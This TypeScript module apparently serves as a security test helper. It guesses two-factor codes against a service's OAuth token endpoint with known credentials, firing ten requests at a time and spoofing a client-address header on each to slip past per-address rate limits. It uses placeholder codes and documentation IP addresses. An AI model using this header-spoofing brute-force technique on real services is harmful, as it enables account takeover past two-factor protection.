type Target = {
  readonly url: string;
  /** Credentials of an account whose password the attacker knows. */
  readonly email: string;
  readonly password: string;
  /** The header from which the service takes the address of a client. */
  readonly addressHeader: string;
  readonly guesses: number;
};

const AT_ONCE = 10;
const CODES = ['not a code', 'ABCD-EFGH-IJKL-MNOP', '000000'];

/** Guesses two-factor codes from ten addresses concurrently; returns the status of each response. */
export async function guessCodes({ url, email, password, addressHeader, guesses }: Target): Promise<number[]> {
  const guess = async (from: string, code: string): Promise<number> => {
    const response = await fetch(`${url}/oapi/v1/oauth_token`, {
      method: 'POST',
      headers: { [addressHeader]: from },
      body: new URLSearchParams({ username: email, password, mfa_token: code }),
    });
    await response.arrayBuffer();
    return response.status;
  };
  const statuses: number[] = [];
  for (let first = 0; first < guesses; first += AT_ONCE) {
    const code = CODES[(first / AT_ONCE) % CODES.length]!;
    const round = Array.from({ length: Math.min(AT_ONCE, guesses - first) }, (_, at) => guess(`192.0.2.${at}`, code));
    statuses.push(...(await Promise.all(round)));
  }
  return statuses;
}
